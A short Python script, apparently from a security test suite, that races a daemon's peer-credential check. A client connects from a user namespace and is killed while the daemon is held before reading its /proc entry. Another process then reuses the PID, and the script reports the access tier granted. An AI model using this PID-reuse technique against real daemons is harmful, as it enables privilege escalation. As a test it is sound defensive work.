"""A peer in a user namespace ends while the daemon is held before its /proc directory, and a process outside gets its number.

usage: usurper.py SOCKET DIRECTORY PROGRAM GATE

PROGRAM is target.c, GATE the TASKSTATS_GATE of gate.c. Prints the tier of the peer's connection.
"""
import json
import os
import signal
import socket
import sys

import targets
from gatekeeper import OPENING, Gate
from personas import OWNER

path, directory, program, gate_path = sys.argv[1:]
stay = [targets.files(directory, program)["plain"], "stay"]
gate = Gate(gate_path)
connection = socket.socket(socket.AF_UNIX)
armed, arm = os.pipe()
peer = os.fork()
if peer == 0:
    targets.become(OWNER, OWNER)
    targets.call(targets.libc.unshare(targets.CLONE_NEWUSER), "unshare")
    os.read(armed, 1)
    connection.connect(path)
    signal.pause()
gate.arm(peer, 0, OPENING)
os.write(arm, b"!")
gate.wait()
os.kill(peer, signal.SIGKILL)
os.waitpid(peer, 0)
usurper = targets.Successor(stay, peer, OWNER)
gate.disarm()
gate.let_go()
print(json.loads(connection.makefile("rb").readline())["params"]["you"]["access"])
usurper.end()
